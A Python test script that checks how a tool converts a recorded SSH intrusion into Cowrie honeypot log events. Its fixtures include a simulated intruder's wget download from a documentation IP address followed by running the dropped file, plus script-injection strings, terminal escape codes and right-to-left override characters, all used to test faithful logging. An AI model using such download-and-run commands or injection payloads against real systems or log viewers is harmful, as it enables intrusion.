#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""cowrie.py QEBEK MAKE_INTRUSION: sessions in the events of the Cowrie honeypot's log."""
import hashlib
import json
import re
import subprocess
import sys
import tempfile

QEBEK, MAKE = sys.argv[1:]

# What Cowrie's reference of output events (docs/OUTPUT.rst of cowrie/cowrie) gives each of these events, and all of them.
SHARED = {'eventid', 'message', 'sensor', 'timestamp', 'src_ip', 'session'}
EVENTS = {
    'cowrie.session.connect': {'src_port', 'dst_ip', 'dst_port'},
    'cowrie.login.success': {'username', 'password'},
    'cowrie.command.input': {'input'},
    'cowrie.command.failed': {'input'},
    'cowrie.client.version': {'version'},
    'cowrie.client.size': {'width', 'height'},
    'cowrie.session.file_download': {'url', 'outfile', 'shasum', 'destfile'},
    'cowrie.session.file_upload': {'filename', 'outfile', 'shasum'},
    'cowrie.log.closed': {'ttylog', 'size', 'duration'},
    'cowrie.session.closed': {'duration'},
}


# Bytes that the intruder's terminal took and gave.
TERMINAL = len(b"ls <b>\r" b"\x1b[1mdropped\x1b[0m \xc3\xa9\r\n</script><img src=x onerror=document.title='owned'>\r\n")
# What the intruder's download leaves, as make_intrusion writes it.
FILES = [('/root/dropped', '198.51.100.7:80', 14, hashlib.sha256(b'#!/bin/sh <b>\n').hexdigest())]


def expect(good, text):
    if not good:
        raise AssertionError(text)


def check(*more, commands):
    with tempfile.TemporaryDirectory() as path:
        subprocess.run([MAKE, f'{path}/t', '100', *more], check=True)
        done = subprocess.run([QEBEK, 'read', '-e', 'trace=none', '--output', 'cowrie', f'{path}/t'],
                              stdout=subprocess.PIPE, check=True)
    events = [json.loads(line) for line in done.stdout.decode().splitlines()]
    for event in events:
        missing = (SHARED | EVENTS[event['eventid']]) - set(event)
        expect(not missing, f'{event["eventid"]} lacks {missing}')
        expect(event['src_ip'] == '203.0.113.9' and event['protocol'] == 'ssh', f'{event}')
        expect(re.fullmatch(r'[0-9a-f]{12}', event['session']), f'{event["session"]}')
        expect(re.fullmatch(r'\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z', event['timestamp']), f'{event["timestamp"]}')
    expect(len({e['session'] for e in events}) == 1, 'sessions')
    files = [(e['destfile'], e['from'], e['size'], e['shasum']) for e in events if 'shasum' in e]
    expect(files == FILES, f'{files}')
    expect(['shasum' in e for e in events].index(True) > [e['eventid'] for e in events].index('cowrie.login.success'), 'order')
    events = [e for e in events if 'shasum' not in e]
    told = [(e['eventid'].removeprefix('cowrie.'), e.get('input') or e.get('username') or e.get('dst_port') or e.get('version') or e.get('width') or e.get('ttylog'))
            for e in events]
    size, log = ([], []) if more else ([('client.size', 90)], [('log.closed', '0001.cast')])
    sizes = [(e['height'], e.get('size')) for e in events if 'height' in e] + [e['size'] for e in events if 'ttylog' in e]
    expect(sizes == ([] if more else [(25, None), TERMINAL]), f'{sizes}')
    expect(told == [('session.connect', 22), ('client.version', 'SSH-2.0-Hostile\x1b[2J_1.0'), *size, ('login.success', 'root'), *(('command.input', c) for c in commands),
                    ('command.failed', 'nonsense'), *log, ('session.closed', None)], f'{told}')
    expect(events[-1]['duration'] >= 0 and events[0]['src_port'] == 50022, f'{events[-1]}')
    print(f'{len(events)} events')


def main():
    script = "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
    # At a terminal what was typed is the command; without one, each program that runs.
    check(commands=['whoami </script>\u202e'])
    check('no-terminal', commands=["wget 'http://198.51.100.7/a b' '" + script.replace("'", "'\\''") + "'",
                                   "./dropped 'it'\\''s' '\u202e' ''"])


if __name__ == '__main__':
    main()
